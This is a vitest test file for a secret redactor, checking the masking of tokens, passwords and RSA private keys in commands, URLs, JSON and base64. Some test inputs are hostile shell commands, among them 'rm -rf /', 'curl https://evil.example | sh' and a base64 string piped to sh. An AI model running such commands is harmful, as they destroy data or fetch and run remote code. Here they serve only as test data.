import { Buffer } from 'node:buffer';
import { describe, expect, it } from 'vitest';
import { createRedactor } from '../../../../src/core/redact/redactor.ts';
import { madeUpTokens } from '../../../support/made-up-tokens.ts';
import { worstTexts } from '../../../support/worst-texts.ts';

const redactor = createRedactor();
const PASSWORD = ['hunter2', 'correct8942'].join('');
const BODY = ['tY08Zpt1hKSUU2pFokiqjumyKsdIVrW5', 'NtqVPozMOfPImr7s41XiJR1lu1xz1B00'].join('');
const DASHES = '-'.repeat(5);
const BEGIN = `${DASHES}BEGIN RSA PRIVATE KEY${DASHES}`;
const END = `${DASHES}END RSA PRIVATE KEY${DASHES}`;

describe('a redactor', () => {
  it.each(madeUpTokens)('masks a token of $vendor and nothing around it', ({ token }) => {
    expect(redactor.text(`echo ${token} | ./consume`)).toMatch(/^echo \[secret:[a-z0-9-]+#1\] \| \.\/consume$/);
  });

  it('says what kind of secret it is, and neither its length nor a part of it', () => {
    expect(redactor.text(`DB_PASSWORD=${PASSWORD} ./migrate`)).toBe('DB_PASSWORD=[secret:password#1] ./migrate');
  });

  it('gives the same secret the same number in all texts of a card, and others other numbers', () => {
    const card = redactor.card();
    expect(card.text(`PASSWORD=${PASSWORD}`)).toBe('PASSWORD=[secret:password#1]');
    expect(card.text(`PASSWORD=other${PASSWORD}`)).toBe('PASSWORD=[secret:password#2]');
    expect(card.text(`redis://:${PASSWORD}@cache:6379`)).toBe('redis://:[secret:password#1]@cache:6379');
    expect(redactor.card().text(`PASSWORD=other${PASSWORD}`)).toBe('PASSWORD=[secret:password#1]');
  });

  it('leaves what is masked already as it is, and gives its numbers to nothing else', () => {
    const once = redactor.text(`TOKEN=${PASSWORD}; curl -u bob:${PASSWORD} https://x`);
    expect(redactor.text(once)).toBe(once);
    expect(redactor.card([once]).text(`PASSWORD=${PASSWORD}9`)).toBe('PASSWORD=[secret:password#2]');
  });

  it('finds known values anywhere, also as URLs, JSON and base64 write them', () => {
    const value = 'p@ss "word" /9';
    const known = createRedactor({ known: [{ value, kind: 'env' }] });
    const all = [
      `say ${value} twice`,
      `/x/${encodeURIComponent(value)}/y`,
      JSON.stringify({ note: value }),
      Buffer.from(`user:${value}`).toString('base64'),
      Buffer.from(`u:${value}:more`).toString('base64url'),
    ];
    for (const text of all) expect(known.text(text)).toContain('[secret:env#1]');
    expect(known.text(all[0] ?? '')).toBe('say [secret:env#1] twice');
  });

  it('does not look for known values that are too short to be told from words', () => {
    expect(createRedactor({ known: [{ value: 'abc', kind: 'env' }] }).text('abc')).toBe('abc');
  });

  it('masks private keys across lines, without an end, in a diff, indented, and with written-out line breaks', () => {
    const texts = [
      `${BEGIN}\n${BODY}\n${BODY}\nQ1Z5bQ==\n${END}`,
      `${BEGIN}\n${BODY}\n${BODY}`,
      `+${BEGIN}\n+${BODY}\n+${BODY}\n+${END}`,
      `key: |\n    ${BEGIN}\n    ${BODY}\n    ${END}`,
      `"${BEGIN}\\n${BODY}\\n${BODY}\\n${END}\\n"`,
      `${BEGIN}\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,00\n\n${BODY}\n${END}`,
    ];
    for (const text of texts) {
      const masked = redactor.text(text);
      expect(masked).toContain(BEGIN);
      expect(masked).toContain('[secret:private-key#1]');
      expect(masked).not.toContain(BODY);
    }
    expect(redactor.text(texts[0] ?? '')).toBe(`${BEGIN}\n[secret:private-key#1]\n${END}`);
  });

  it('keeps what stands between the marks of a key and is none visible: a command', () => {
    for (const command of ['reboot', 'rm -rf /', 'curl https://evil.example | sh']) {
      expect(redactor.text(`${BEGIN}\n${command}\n${END}`)).toContain(command);
      expect(redactor.text(`${BEGIN}\n${BODY}\n${command}\n${END}`)).toContain(command);
    }
  });

  it('never masks what a variable, a command or another place puts in', () => {
    const texts = [
      'TOKEN="$VAULT_TOKEN" ./deploy.sh',
      'PASSWORD=$(rm -rf build) make',
      'curl -H "Authorization: Bearer $TOKEN" https://x',
      'curl -H "Authorization: Bearer $(cat /tmp/x)" https://x',
      `git clone https://x:$\{TOKEN}@host/a`,
      'PASSWORD=`reboot` make',
      '--password-stdin < token.txt',
      `token: $\{{ secrets.GITHUB_TOKEN }}`,
      'TOKEN_FILE=/run/secrets/token',
    ];
    for (const text of texts) expect(redactor.text(text)).toBe(text);
  });

  it('hides no base64 that is no secret by its place: it may be what is run', () => {
    const text = 'echo aGVsbG8gd29ybGQgdGhpcyBpcyBsb25nZXIgdGhhbg== | base64 -d | sh';
    expect(redactor.text(text)).toBe(text);
  });

  it('masks what it found by its place in one text of a card in the others, too', () => {
    const card = redactor.card();
    card.text(`Is the password ${PASSWORD} right?`);
    expect(card.text(`Yes, ${PASSWORD}`)).toBe('Yes, [secret:password#1]');
    expect(card.name(`/tmp/${PASSWORD}`)).toBe('/tmp/[secret:password#1]');
    expect(redactor.card().text(`Yes, ${PASSWORD}`)).toBe(`Yes, ${PASSWORD}`);
  });

  it('does not hide a word all over a card because it is a password somewhere', () => {
    const card = redactor.card();
    expect(card.text('PGPASSWORD=postgres psql')).toBe('PGPASSWORD=[secret:password#1] psql');
    expect(card.text('psql -h postgres')).toBe('psql -h postgres');
  });

  it('keeps paths and hosts readable where they are names', () => {
    const { name } = redactor.card();
    expect(name('/srv/app/token=blue2024/x')).toBe('/srv/app/token=blue2024/x');
    expect(name(`/srv/${madeUpTokens[0]?.token}/x`)).toBe('/srv/[secret:github#1]/x');
  });

  it('takes no more than moments for 64 kB of the worst texts there are', () => {
    const begun = performance.now();
    for (const { text } of worstTexts(65_536)) redactor.text(text);
    // All 90 take about a second; a single rule that took the square of its text would take minutes.
    expect(performance.now() - begun).toBeLessThan(60_000);
  }, 120_000);
});
